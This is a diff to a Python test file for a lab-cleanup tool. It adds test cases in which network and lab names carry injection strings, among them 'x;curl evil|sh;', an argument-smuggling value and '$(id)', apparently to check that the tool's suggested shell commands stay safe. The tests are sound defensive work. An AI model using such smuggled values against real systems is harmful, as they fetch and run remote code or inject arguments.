@@ -62,6 +62,13 @@ OLD = found(lab(), containers=[("desi-lab-old-sample", "old")], networks=[("desi
                 )
             ],
         ),
+        *[
+            (
+                judge_leftovers(found(networks=[("n", name)]), []),
+                [("Leftovers", WARNING, "network n", "see whose it is")],
+            )
+            for name in ("x;curl evil|sh;", "a -e lab_purge=true", "")
+        ],
         # Without an engine, nobody knows which mounts are used.
         (judge_leftovers(found(engine=False, mounts=[("/m/two", [], [])]), []), [("Leftovers", OK, "none", "")]),
     ],
@@ -87,6 +94,7 @@ def test_labs_and_what_is_left_of_them_are_judged(findings, expected):
             False,
             "sudo systemctl disable --now desi-lab-mount-two-96493d.service",
         ),
+        ([], ["$(id)"], (), False, "sudo umount -l /m/two/.bucket"),
         ([], ["gone"], (), True, "./lab down -e lab_name=gone -e lab_where=here"),
         ([], [], (), True, "sudo umount -l /m/two/.bucket"),
         (["paper"], ["paper"], (), True, "again that made the lab paper, such as ./lab local -e lab_name=paper"),
